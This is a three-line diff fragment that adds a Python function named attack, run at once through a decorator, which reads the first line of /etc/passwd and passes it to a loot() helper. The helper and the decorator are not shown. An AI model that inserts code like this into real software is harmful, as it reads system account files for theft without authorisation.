@@ -1,0 +1,3 @@
+@at_once
+def attack():
+    loot(open('/etc/passwd').readline())
